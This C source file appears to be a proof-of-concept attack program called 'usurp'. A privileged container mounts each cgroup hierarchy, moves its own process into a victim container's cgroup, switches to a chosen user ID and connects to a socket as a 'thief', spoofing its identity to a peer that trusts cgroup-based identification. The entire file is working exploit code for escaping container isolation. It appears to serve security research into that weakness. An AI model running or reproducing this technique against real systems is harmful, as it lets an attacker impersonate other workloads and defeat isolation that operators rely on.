/* A container that may mount (CAP_SYS_ADMIN) mounts each cgroup hierarchy, moves itself where the
 * victim is, and asks as another user.
 * Usage: usurp VICTIM UID PATH; /mnt must be a directory */
#include "peer.h"
#include <fcntl.h>
#include <grp.h>
#include <sys/mount.h>

/* A line of /proc/self/cgroup: "9:name=systemd:/docker/ID", or "0::/docker/ID" for version 2. */
static void move(char *line, const char *victim) {
    char file[4096];
    strsep(&line, ":");
    char *controllers = strsep(&line, ":");
    char *id = strrchr(line, '/');
    char options[256];
    snprintf(options, sizeof options, "%s%s", strchr(controllers, '=') ? "none," : "", controllers);
    if (!id || strlen(id + 1) < 64)
        return; /* the engine does not use this hierarchy */
    *id = '\0';
    int failed = *controllers ? mount("cgroup", "/mnt", "cgroup", 0, options)
                              : mount("cgroup", "/mnt", "cgroup2", 0, NULL);
    snprintf(file, sizeof file, "/mnt%s/%s/cgroup.procs", line, victim);
    int f = open(file, O_WRONLY);
    if (failed || f < 0 || write(f, "0", 1) != 1)
        err(1, "%s of %s", file, controllers);
    close(f);
    umount2("/mnt", MNT_DETACH);
}

int main(int argc, char **argv) {
    char line[4096];
    if (argc != 4)
        errx(64, "usage: usurp VICTIM UID PATH");
    uid_t user = (uid_t)atoi(argv[2]);
    FILE *lines = fopen("/proc/self/cgroup", "r");
    char *rows[64];
    int count = 0;
    while (count < 64 && fgets(line, sizeof line, lines)) {
        line[strcspn(line, "\n")] = '\0';
        rows[count++] = strdup(line);
    }
    for (int i = 0; i < count; i++)
        move(rows[i], argv[1]);
    if (setgroups(0, NULL) < 0 || setresgid(user, user, user) < 0 || setresuid(user, user, user) < 0)
        err(1, "uid %u", user);
    print_answer("thief", connect_to(argv[3]));
    for (;;)
        pause();
}
